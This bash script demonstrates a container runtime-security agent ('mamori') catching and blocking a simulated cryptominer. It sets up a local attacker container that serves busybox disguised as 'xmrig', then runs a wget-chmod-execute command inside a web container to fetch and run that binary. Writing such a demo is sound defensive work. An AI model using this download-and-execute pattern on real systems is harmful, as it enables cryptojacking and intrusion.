#!/bin/bash
# demo.sh tells the story of runtime enforcement on this machine, for a
# newcomer:
#
#   A web container serves HTTP. An attacker who got a shell in it downloads
#   a "cryptominer" from a server of theirs and runs it. The miner was not in
#   the image, so Drift Prevention catches it: in audit mode the alert shows
#   the download, the write and the exec; in enforce mode the exec fails and
#   nothing of the binary runs.
#
# The web container runs before the agent starts, as on any node where the
# agent is upgraded or restarted. Each step waits until the agent reports
# the container protected (mamori status), never for a fixed time, and the
# script exits non-zero unless the enforce step was refused.
#
# Run as root: scripts/demo.sh. It installs what it needs, builds mamori
# (or uses MAMORI_BIN), uses a podman network of its own (the attacker's
# server is a container on it) and removes everything it made when it ends.
set -euo pipefail
export PATH=$PATH:/usr/local/go/bin
here=$(cd "$(dirname "$0")" && pwd)
repo=$(cd "$here/.." && pwd)
work=$(mktemp -d /tmp/mamori-demo.XXXXXX)
net=mamori-demo
agent_pid=

cleanup() {
	if [ -n "$agent_pid" ]; then stop_agent || true; fi
	podman rm -f -t 0 mamori-demo-web mamori-demo-attacker >/dev/null 2>&1 || true
	podman network rm -f "$net" >/dev/null 2>&1 || true
	rm -rf "$work"
}
trap cleanup EXIT

if [ -t 1 ]; then
	say() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
else
	say() { printf '\n== %s\n' "$*"; }
fi
fail() { echo "demo.sh: $*" >&2; exit 1; }

[ "$(id -u)" = 0 ] || fail "run as root (the agent loads eBPF)"
say "Preparing: podman, a busybox image, the mamori binary"
"$here/install-deps.sh" >/dev/null
image=$("$here/build-test-image.sh")
mamori=${MAMORI_BIN:-}
if [ -z "$mamori" ]; then
	mamori=$work/mamori
	(cd "$repo" && go build -o "$mamori" ./cmd/mamori)
fi

podman rm -f -t 0 mamori-demo-web mamori-demo-attacker >/dev/null 2>&1 || true
podman network create "$net" >/dev/null 2>&1 || true
podman run -d --name mamori-demo-attacker --network "$net" "$image" \
	sh -c 'mkdir -p /srv && cp /bin/busybox /srv/xmrig && httpd -f -p 8000 -h /srv' >/dev/null
attacker=$(podman inspect -f '{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}' mamori-demo-attacker)
podman run -d --name mamori-demo-web --label app=web --network "$net" "$image" \
	sh -c 'mkdir -p /www && echo "<h1>shop</h1>" > /www/index.html && httpd -f -p 8080 -h /www' >/dev/null
echo "web container: mamori-demo-web (running before the agent starts); attacker's server: $attacker:8000"

policy() { # $1: audit or enforce
	cat > "$work/policies/web.yaml" <<EOF
apiVersion: mamori.dev/v1
kind: RuntimePolicy
metadata:
  name: web-immutable
spec:
  mode: $1
  scope:
    container:
      labels:
        app: web
  controls:
    driftPrevention: {}
    forensics:
      events: 50
EOF
}

# start_agent MODE starts the agent and waits until it reports the web
# container's Drift Prevention in MODE: "enforced" (in place in the kernel
# and the fanotify handler) or "audited".
start_agent() {
	local want=audited
	[ "$1" = enforce ] && want=enforced
	: >"$work/agent-$1.log" # the loop below reads it before the agent may have opened it
	"$mamori" agent --rules none --policy "$work/policies" --health-addr 127.0.0.1:0 \
		--hook-socket "$work/hook.sock" --alerts-output "$work/alerts-$1.json" 2>"$work/agent-$1.log" &
	agent_pid=$!
	local addr=
	for _ in $(seq 300); do
		kill -0 "$agent_pid" 2>/dev/null || { cat "$work/agent-$1.log" >&2; fail "the agent exited"; }
		addr=$(sed -n 's/.*msg="agent ready".* health=\([^ ]*\).*/\1/p' "$work/agent-$1.log")
		[ -n "$addr" ] && break
		sleep 0.1
	done
	[ -n "$addr" ] || { cat "$work/agent-$1.log" >&2; fail "the agent did not get ready in 30s"; }
	for _ in $(seq 300); do
		state=$("$mamori" status --health-addr "$addr" -o json | python3 -c '
import json, sys
st = json.load(sys.stdin)
for c in st.get("containers", []):
    if c.get("name") == "mamori-demo-web":
        for ctl in c["controls"]:
            if ctl["control"] == "driftPrevention":
                print(ctl["state"], ctl.get("mechanism", ""))
')
		case "$state" in "$want"*)
			echo "agent ready: mamori-demo-web's Drift Prevention is $state"
			return ;;
		esac
		sleep 0.1
	done
	fail "the web container's Drift Prevention never became $want (last: ${state:-unknown})"
}

stop_agent() {
	kill -INT "$agent_pid"
	for _ in $(seq 200); do
		kill -0 "$agent_pid" 2>/dev/null || break
		sleep 0.1
	done
	if kill -0 "$agent_pid" 2>/dev/null; then
		kill -QUIT "$agent_pid" # a stack dump into its log
		sleep 1
		agent_pid=
		keep=$(mktemp -d /tmp/mamori-demo-stuck.XXXXXX)
		cp "$work"/agent-*.log "$keep"/
		echo "demo.sh: the agent did not stop within 20s of Ctrl-C; its logs, with a stack dump, are in $keep" >&2
		exit 1
	fi
	wait "$agent_pid" || true
	agent_pid=
}

attack() { # prints what the attacker's shell printed
	timeout 60 podman exec mamori-demo-web sh -c \
		"wget -q -O /tmp/xmrig http://$attacker:8000/xmrig && chmod +x /tmp/xmrig && /tmp/xmrig --donate-level 1 2>&1; echo \"exit status: \$?\"" 2>&1 || true
}

# show FILE ACTION prints the miner's Drift Prevention alert with ACTION and
# what led to it; it fails when there is none.
show() {
	python3 - "$1" "$2" <<'EOF'
import json, sys
for line in open(sys.argv[1]):
    a = json.loads(line)
    if a.get("rule") != "Drift Prevention" or "xmrig" not in (a.get("process") or {}).get("exe", "") or a["action"] != sys.argv[2]:
        continue
    print(f'{a["priority"]}: {a["rule"]}, action={a["action"]}, policy={a["policy"]}')
    print(f'  {a["output"]}')
    print('  what led to it (forensics):')
    for e in a.get("forensics", []):
        p = e["process"]
        if e["event"] == "connect" and e.get("network"):
            n = e["network"]
            print(f'    connect  {p["name"]:8} -> {n.get("dst_ip")}:{n.get("dst_port")}   (the download)')
        elif e["event"] == "open" and e.get("file", {}).get("path", "").startswith("/tmp/xmrig"):
            print(f'    open     {p["name"]:8} {e["file"]["path"]} {e["file"].get("flags", "")}   (the write)')
        elif e["event"] == "exec" and "xmrig" in p["exe"]:
            print(f'    exec     {p["exe"]} upper_layer={p["exe_upper_layer"]}   (the run)')
    sys.exit(0)
print(f"  (no Drift Prevention alert with action={sys.argv[2]})")
sys.exit(1)
EOF
}

mkdir -p "$work/policies"
say "1. Audit mode: the miner runs, and mamori reports how it got there"
echo "(the fake miner is busybox under another name: it says 'applet not found', but it ran)"
policy audit
start_agent audit
out=$(attack)
echo "$out"
stop_agent
show "$work/alerts-audit.json" audited || fail "audit mode raised no alert for the miner"
case "$out" in *"applet not found"*) ;; *) fail "in audit mode the miner should have run" ;; esac

podman exec mamori-demo-web rm -f /tmp/xmrig
say "2. Enforce mode: the same attack; the miner never starts"
policy enforce
start_agent enforce
out=$(attack)
echo "$out"
stop_agent
show "$work/alerts-enforce.json" blocked || fail "enforce mode raised no blocked alert for the miner"
case "$out" in
*"applet not found"*) fail "the miner ran in enforce mode" ;;
*"Operation not permitted"*) echo "refused: the miner never ran" ;;
*) fail "the miner was neither run nor refused: $out" ;;
esac
